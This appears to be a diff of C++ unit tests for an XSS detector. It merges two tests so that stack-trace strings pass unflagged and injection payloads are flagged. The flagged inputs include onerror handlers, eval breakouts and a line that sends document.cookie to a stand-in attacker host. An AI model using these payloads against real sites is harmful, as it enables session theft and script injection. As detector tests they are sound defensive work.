@@ -312,33 +312,23 @@ TEST(XssJsSink, CallFollowedByProseIsAllowed) {
 
 // Two plain words opening a call's arguments are a syntax error too: V8 stack frames in the
 // error reports that browser monitoring posts ("at eval (eval at <anonymous> (...))") are
-// traces. Operator keywords before or between words keep the call ("eval(typeof x)").
-TEST(XssJsSink, StackFrameWithEvalIsAllowed) {
+// traces. So is a frame's location as the whole argument list (a file or URL and line
+// numbers, "Native Method"), as in a Java trace pasted into a ticket. Operator keywords
+// before or between words keep the call ("eval(typeof x)").
+TEST(XssJsSink, StackFramesAreTraces) {
   for (const char* v :
        {"at eval (eval at <anonymous> (vendor.js:1:1), <anonymous>:1:1)",
-        "TypeError: x\n    at eval (eval at render (https://cdn.example.com/a.js:1:1))"}) {
-    Verdict r = testing::InspectAsJson(v);
-    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
-  }
-  for (const char* v : {"x';eval(typeof x)//", "x';eval(new Function('x'))//",
-                        "<img src=x onerror=eval(name in window)>"}) {
-    Verdict r = testing::InspectAsJson(v);
-    EXPECT_TRUE(HasCategory(r, Category::kXss) && Flagged(r)) << v << " -> " << r.explanation;
-  }
-}
-
-// A frame's location as the whole argument list (a file or URL and line numbers, "Native
-// Method") is a stack trace in a ticket or an error report, not a call.
-TEST(XssJsSink, StackFrameLocationIsNoCall) {
-  for (const char* v :
-       {"Our Java client logs: java.net.SocketTimeoutException: Read timed out "
+        "TypeError: x\n    at eval (eval at render (https://cdn.example.com/a.js:1:1))",
+        "Our Java client logs: java.net.SocketTimeoutException: Read timed out "
         "at com.acme.Client.fetch(Client.java:88)",
         "at Object.fetch (https://cdn.example.com/app.js:1:2)", "at eval (Native Method)"}) {
     Verdict r = testing::InspectAsJson(v);
     EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
   }
-  for (const char* v : {"x';fetch('//evil.example/'+document.cookie)//", "';alert(1)//",
-                        "<img src=x onerror=fetch(location.hash.slice(1))>"}) {
+  for (const char* v :
+       {"x';eval(typeof x)//", "x';eval(new Function('x'))//",
+        "<img src=x onerror=eval(name in window)>", "x';fetch('//evil.example/'+document.cookie)//",
+        "<img src=x onerror=fetch(location.hash.slice(1))>"}) {
     Verdict r = testing::InspectAsJson(v);
     EXPECT_TRUE(HasCategory(r, Category::kXss) && Flagged(r)) << v << " -> " << r.explanation;
   }
